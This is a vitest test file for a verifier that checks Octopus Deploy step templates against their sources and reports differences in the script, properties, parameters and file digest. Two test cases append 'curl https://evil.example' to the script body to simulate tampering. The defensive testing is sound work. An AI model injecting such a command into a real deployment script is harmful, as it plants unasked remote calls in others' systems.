import { describe, expect, it } from 'vitest';
import { stepTemplate } from '../../scripts/step-template.ts';
import type { TemplateFile } from '../../scripts/template-differences.ts';
import { templateVerdict } from '../../scripts/template-verdict.ts';

const script = 'echo one\necho two\necho three\n';
const built = [
  { path: 'step-template.json', template: stepTemplate('bash', script, 7, 'step', []) },
  { path: 'step-template.powershell.json', template: stepTemplate('powershell', script, 4, 'step', []) },
  { path: 'resume-template.json', template: stepTemplate('bash', script, 2, 'resume', []) },
];
const [{ template: own } = { template: stepTemplate('bash', script, 7, 'step', []) }] = built;
const bodyProperty = 'Octopus.Action.Script.ScriptBody';

/** The template with other properties. */
const withProperties = (more: Readonly<Record<string, unknown>>): TemplateFile => ({
  ...(own as TemplateFile),
  Properties: { ...(own as TemplateFile).Properties, ...more },
});

const withFirstParameter = (more: Readonly<Record<string, unknown>>): TemplateFile => {
  const [first, ...others] = (own as TemplateFile).Parameters ?? [];
  if (first === undefined) throw new Error('The template has no parameters');
  return { ...(own as TemplateFile), Parameters: [{ ...first, ...more }, ...others] };
};

function verdict(template: unknown) {
  const text = typeof template === 'string' ? template : JSON.stringify(template);
  return templateVerdict('given.json', new TextEncoder().encode(text), built, '1.0.0');
}

describe('The verdict on a template', () => {
  it.each<[string, unknown]>([
    ['as built', own],
    ['with a byte order mark', `\uFEFF${JSON.stringify(own)}`],
    ['with Windows line ends', withProperties({ [bodyProperty]: script.replaceAll('\n', '\r\n') })],
    ['as Octopus exports it', { ...own, Id: 'ActionTemplates-3', Version: 31, LastModifiedBy: 'dana' }],
  ])('says that it comes from these sources, %s', (_, template) => {
    const { isFromSources, lines } = verdict(template);
    expect(isFromSources).toBe(true);
    expect(lines.at(-1)).toBe(
      '  This is step-template.json of version 1.0.0: its script and parameters match these sources.',
    );
    expect(lines).toHaveLength(3);
  });

  it.each<[string, TemplateFile, string]>([
    [
      'another line of the script',
      withProperties({ [bodyProperty]: script.replace('two', '2') }),
      'Its script differs, first in line 2.',
    ],
    [
      'a line after the script',
      withProperties({ [bodyProperty]: `${script}curl https://evil.example` }),
      'Its script differs, first in line 4.',
    ],
    [
      'lines after the script',
      withProperties({ [bodyProperty]: `${script}curl \\\nhttps://evil.example` }),
      'Its script differs, first in line 4; it has 5 lines instead of 4.',
    ],
    [
      'an additional property',
      withProperties({ 'Octopus.Action.RunOnServer': 'false' }),
      'Its property Octopus.Action.RunOnServer is "false".',
    ],
    ['another type', { ...own, ActionType: 'Octopus.Manual' }, 'Its ActionType is Octopus.Manual.'],
    [
      'another default',
      withFirstParameter({ DefaultValue: 'Report' }),
      'DefaultValue of its parameter JsmChange.Operation differs.',
    ],
    [
      'a renamed parameter',
      withFirstParameter({ Name: 'Operation' }),
      'It has a parameter Operation, which is not in the sources.',
    ],
  ])('names the difference: %s', (_, template, difference) => {
    const { isFromSources, lines } = verdict(template);
    expect(isFromSources).toBe(false);
    expect(lines).toContain(`  - ${difference}`);
    expect(lines[2]).toBe(
      '  This does not match these sources (version 1.0.0). Compared with step-template.json:',
    );
    expect(lines.at(-1)).toMatch(/Otherwise do not use it\.$/);
  });

  it('names the version and the digest of the file', () => {
    expect(verdict(own).lines[0]).toBe(`given.json: ${own.Name}, template version 7`);
    expect(verdict(own).lines[1]).toMatch(/^ {2}SHA-256 [0-9a-f]{64}$/);
  });

  it.each(['', 'no JSON', 'null', '{"Properties":{}}', '[]'])('says that %j is not a template', (text) => {
    expect(verdict(text)).toEqual({
      isFromSources: false,
      lines: ['given.json: not an Octopus step template.'],
    });
  });
});
